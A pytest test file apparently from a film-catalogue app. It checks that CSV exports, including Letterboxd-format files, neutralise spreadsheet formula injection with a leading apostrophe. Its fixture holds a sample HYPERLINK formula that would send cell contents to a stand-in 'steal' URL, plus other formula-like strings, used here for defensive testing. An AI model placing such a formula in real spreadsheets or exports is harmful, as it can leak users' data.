"""Every CSV filmdesk writes goes through one writer, and none carries a live formula: a cell
a spreadsheet would run (starting with = + - @, a tab or a carriage return) is written with a
leading apostrophe, in filmdesk's own CSV and in the files Letterboxd's importers read."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from filmdesk.core.catalog import Catalog
from filmdesk.core.exchange.csv_format import FORMULA_STARTS
from filmdesk.core.exchange.formats import (
    ExportOptions,
    FilmSelection,
    film_export,
    list_export,
)
from filmdesk.core.exchange.planning import plan_import

HYPERLINK = '=HYPERLINK("https://example.org/steal?"&A1,"Click me")'


@pytest.fixture
def risky(catalog: Catalog) -> int:
    """A screening list of one film whose text could all be taken for formulas."""
    film = catalog.films.add(
        {
            "title": HYPERLINK,
            "original_title": "+SUM(1,2)",
            "directors": ["@Director", "-Other"],
            "tags": ["=tag"],
            "notes": "\tnotes after a tab",
            "description": "-1+1",
            "watched": True,
            "watched_on": "2024-05-10",
            "rating": 4.5,
        }
    )
    made = catalog.lists.create("Risky")
    catalog.lists.add(made.id, [film.id], note="=1+1")
    return made.id


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _live_formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("name", ["csv", "letterboxd"])
def test_a_films_export_carries_no_live_formula(
    catalog: Catalog, risky: int, tmp_path: Path, name: str
) -> None:
    path = tmp_path / f"films-{name}.csv"
    film_export(name).write(path, FilmSelection(catalog), ExportOptions())
    rows = _cells(path)
    assert _live_formulas(rows) == []
    assert "'" + HYPERLINK in [cell for row in rows for cell in row]


@pytest.mark.parametrize("name", ["csv", "letterboxd"])
def test_a_list_export_carries_no_live_formula(
    catalog: Catalog, risky: int, tmp_path: Path, name: str
) -> None:
    path = tmp_path / f"list-{name}.csv"
    list_export(name).write(path, catalog.lists.get(risky), ExportOptions())
    rows = _cells(path)
    assert _live_formulas(rows) == []
    assert "'" + HYPERLINK in rows[1]
    assert "'=1+1" in rows[1]  # the entry's note


def test_a_letterboxd_export_of_a_hyperlink_title_is_written_neutralised(
    catalog: Catalog, risky: int, tmp_path: Path
) -> None:
    path = tmp_path / "letterboxd.csv"
    film_export("letterboxd").write(path, FilmSelection(catalog), ExportOptions())
    header, *rows = _cells(path)
    mine = next(dict(zip(header, row, strict=True)) for row in rows if HYPERLINK in row[0])
    assert mine["Title"] == "'" + HYPERLINK
    assert mine["Tags"] == "'=tag"
    assert mine["Review"] == "'\tnotes after a tab"
    assert mine["Rating"] == "4.5" and mine["WatchedDate"] == "2024-05-10"


def test_filmdesk_reads_its_own_csv_back_as_it_was(
    catalog: Catalog, risky: int, tmp_path: Path
) -> None:
    # The apostrophe is filmdesk's: reading filmdesk CSV (films or a list) takes it off.
    films = tmp_path / "films.csv"
    film_export("csv").write(films, FilmSelection(catalog), ExportOptions())
    listed = tmp_path / "risky.csv"
    list_export("csv").write(listed, catalog.lists.get(risky), ExportOptions())
    for path in (films, listed):
        plan = plan_import(catalog, path)
        assert (plan.problems, len(plan.new), plan.updates) == ([], 0, [])


def test_a_risky_cell_is_neutralised_wherever_it_is_in_its_column(tmp_path: Path) -> None:
    """The writer looks at a whole column at once (its texts joined, a line each): a risky
    cell first, last, alone among thousands, beside a number or after a cell with a line break
    of its own is still written neutralised; a column of safe texts is written as it is, and
    so is a text whose second line begins as a formula would."""
    from filmdesk.core.exchange.csv_format import CsvWriter

    safe = [f"Film {n}" for n in range(3000)]
    long = [
        f"A description long enough to be looked at cell by cell, number {n}" for n in range(3000)
    ]
    columns: list[list[object]] = [
        ["=first", *safe[1:]],
        [*safe[:-1], "@last"],
        [*safe[:1500], "-middle", *safe[1501:]],
        [None, 1957, *([None] * 2997), "+after a number"],
        ["a\0=b", *safe[1:]],  # (a NUL inside a text: not the start of a cell)
        list(safe),
        [*safe[:9], "a note\n=its second line", *safe[10:]],  # (a line, not a cell, begins so)
        [*safe[:-2], "a note\n", "\t=1"],  # (a cell after a line break of its own)
        [*long[:700], '=HYPERLINK("x")', *long[701:]],  # (long texts: cell by cell)
        [None, *long[1:]],  # (a text column with an empty value first)
    ]
    path = tmp_path / "cells.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        CsvWriter(out).columns(columns)
    rows = _cells(path)
    assert len(rows) == 3000
    assert rows[0][0] == "'=first" and rows[-1][1] == "'@last" and rows[1500][2] == "'-middle"
    assert rows[-1][3] == "'+after a number" and rows[1][3] == "1957"
    assert rows[0][4] == "a\0=b"
    assert rows[9][6] == "a note\n=its second line"
    assert rows[-1][7] == "'\t=1" and rows[-2][7] == "a note\n"
    assert rows[700][8] == '\'=HYPERLINK("x")' and rows[701][8] == long[701]
    assert rows[0][9] == "" and rows[1][9] == long[1]
    assert _live_formulas(rows) == []
    assert [row[5] for row in rows] == safe
